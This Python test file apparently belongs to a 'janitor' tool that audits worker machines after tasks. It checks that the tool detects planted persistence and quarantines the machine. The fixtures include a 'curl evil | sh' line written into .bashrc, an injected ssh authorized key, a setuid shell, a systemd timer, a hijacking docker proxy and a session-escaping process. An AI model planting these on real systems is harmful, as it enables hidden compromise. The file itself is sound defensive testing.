"""What a task plants on its worker's machine is found: real processes, real files, the artefact that travels."""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path

import pytest

from janitor.domain.pool.reuse import Fitness
from janitor.protocol.reuse.order import Before
from janitor.protocol.reuse.result import EXIT_CLEAN, EXIT_LEFT
from tests.integration.reuse.conftest import Plant, WorkerMachine

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="a worker's machine has /proc")

_LISTENS = "import socket, time; s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(); time.sleep(600)"


def lives(pid: int) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] not in "ZX"
    except OSError:
        return False


def _start_up(machine: WorkerMachine) -> None:
    (machine.home / ".bashrc").write_text("curl evil | sh\n")


def _key(machine: WorkerMachine) -> None:
    (machine.home / ".ssh").mkdir()
    (machine.home / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA evil\n")


def _timer(machine: WorkerMachine) -> None:
    unit = machine.home / ".config" / "systemd" / "user" / "evil.timer"
    unit.parent.mkdir(parents=True)
    unit.write_text("[Timer]\nOnCalendar=minutely\n")


def _docker(machine: WorkerMachine) -> None:
    (machine.home / ".docker").mkdir()
    (machine.home / ".docker" / "config.json").write_text('{"proxies": {"default": {"httpProxy": "http://evil"}}}')


def _set_uid(machine: WorkerMachine) -> None:
    shell = machine.temporary / "sh"
    shell.touch()
    shell.chmod(0o4755)


def _program(machine: WorkerMachine) -> None:
    (machine.programs / "git").write_text("#!/bin/sh\n")


_PLANTS: Mapping[str, Plant] = {
    "root/.bashrc is new": _start_up,
    "root/.ssh/authorized_keys is new": _key,
    "evil.timer is new": _timer,
    "root/.docker/config.json is new": _docker,
    "tmp/sh is new": _set_uid,
    "bin changed (git)": _program,
}


def test_each_planted_file_is_named_and_quarantines(machine: WorkerMachine) -> None:
    first = machine.first_look()
    for plant in _PLANTS.values():
        plant(machine)
    code, _, judgement = machine.after_task(first)
    assert (code, judgement.fitness) == (EXIT_CLEAN, Fitness.QUARANTINE)
    unnoticed = [named for named in _PLANTS if not any(named in each for each in judgement.differences)]
    assert unnoticed == []


def test_a_process_that_outlives_its_task_is_ended_and_recycles(machine: WorkerMachine) -> None:
    daemon = machine.run("sleep", "300", stays=True)["pid"]
    first = machine.first_look()
    assert daemon in {each.pid for each in first.manifest.processes}
    # It forks, leaves its session and its parent, as who wants to survive a cleanup does.
    left = machine.run("sh", "-c", f"setsid {sys.executable} -c 'import time; time.sleep(600)' & echo $!")
    survivor = int(left["said"])
    code, result, judgement = machine.after_task(first)
    assert (code, judgement.fitness) == (EXIT_LEFT, Fitness.RECYCLE), judgement
    assert result.scrub is not None
    assert result.scrub.left == ()
    assert "process " in result.scrub.survivors[0]
    assert (lives(survivor), lives(daemon)) == (False, True)


def test_a_socket_that_waits_is_seen_with_its_process(machine: WorkerMachine) -> None:
    first = machine.first_look()
    before = {entry for area in first.manifest.areas for entry in area.entries if entry.startswith("tcp")}
    machine.run(sys.executable, "-c", f"import subprocess, sys; subprocess.Popen([sys.executable, '-c', {_LISTENS!r}])")
    seen = machine.look(machine.order(0, None))[1]
    after = {entry for area in seen.manifest.areas for entry in area.entries if entry.startswith("tcp")}
    (new,) = after - before
    assert new.startswith("tcp 127.0.0.1:")
    assert new.endswith(f"of {os.path.realpath(sys.executable)}")
    assert machine.after_task(first)[2].fitness is Fitness.RECYCLE


def test_what_a_validator_that_was_killed_has_left_goes(machine: WorkerMachine) -> None:
    first = machine.first_look()
    workspace = machine.temporary / "janitor-a1b2c3d4"
    (workspace / "repository").mkdir(parents=True)
    packages = machine.home / ".cache" / "janitor" / "uv-of-workers"
    packages.mkdir(parents=True)
    reports = machine.temporary / "janitor-kept-reports"
    reports.mkdir()
    others = machine.temporary / "janitor-artefact-of-another"
    others.mkdir()
    _, result, judgement = machine.after_task(first)
    assert judgement.fitness is Fitness.RECYCLE
    assert result.scrub is not None
    assert result.scrub.survivors == (f"folder {workspace}",)
    assert [each.exists() for each in (workspace, packages, reports, others)] == [False, False, False, True]


def test_a_machine_on_which_nothing_was_left_is_kept_again_and_again(machine: WorkerMachine) -> None:
    first = machine.first_look()
    for _ in range(2):
        assert machine.run("sh", "-c", "true")["code"] == 0
        code, _, judgement = machine.after_task(first)
        assert (code, judgement.fitness) == (EXIT_CLEAN, Fitness.KEEP), judgement


def test_who_tries_it_by_hand_loses_nothing(machine: WorkerMachine, tmp_path: Path) -> None:
    """It leads no session, as a command at a terminal or in a script: nothing can be told to be a worker's."""
    first = machine.first_look()
    bystander = machine.run("sleep", "300", stays=True)["pid"]
    workspace = machine.temporary / "janitor-a1b2c3d4"
    workspace.mkdir()
    order, answer = tmp_path / "by-hand.json", tmp_path / "by-hand-answer.json"
    asked = machine.order(1, Before(processes=(), engine=None, gpu_memory_mib=None))
    order.write_text(replace(asked, result_path=str(answer)).to_json())
    script = f"sh -c '{sys.executable} -I {machine.artefact} scrub --order {order}; true'; true"
    done = machine.run("sh", "-c", script)
    assert "can be told to be a worker's" in done["said"]
    assert (lives(bystander), workspace.exists()) == (True, True)
    assert first.manifest.processes == ()


@pytest.mark.parametrize(("word", "has_before"), [("scrub", False), ("tripwire", True)])
def test_an_order_for_the_other_command_is_refused(
    machine: WorkerMachine, tmp_path: Path, word: str, has_before: bool
) -> None:
    before = Before(processes=(), engine=None, gpu_memory_mib=None) if has_before else None
    order = tmp_path / "order.json"
    order.write_text(machine.order(1, before).to_json())
    done = subprocess.run(
        [sys.executable, "-I", str(machine.artefact), word, "--order", str(order)],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
        start_new_session=True,
    )
    assert done.returncode == 2
    assert "before: is" in done.stderr
